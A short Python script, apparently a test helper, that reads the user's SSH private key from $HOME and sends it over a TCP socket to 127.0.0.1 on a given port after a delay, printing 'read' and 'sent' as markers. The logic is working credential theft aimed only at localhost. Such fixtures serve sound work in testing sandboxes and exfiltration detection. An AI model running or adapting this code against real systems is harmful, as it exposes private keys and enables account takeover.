"""Reads the SSH private key under $HOME (or FILE, relative to $HOME) and sends it to
127.0.0.1:PORT, after DELAY seconds.

Usage: steal_and_send.py PORT DELAY [FILE]. Prints "read" once it has the key and "sent" once it
sent it.
"""
import os
import socket
import sys
import time

port, delay = int(sys.argv[1]), float(sys.argv[2])
secret_file = sys.argv[3] if len(sys.argv) > 3 else os.path.join(".ssh", "id_rsa")
with open(os.path.join(os.environ["HOME"], secret_file), "rb") as key:
    secret = key.read()
print("read", flush=True)
time.sleep(delay)
with socket.create_connection(("127.0.0.1", port)) as connection:
    connection.sendall(secret)
print("sent", flush=True)
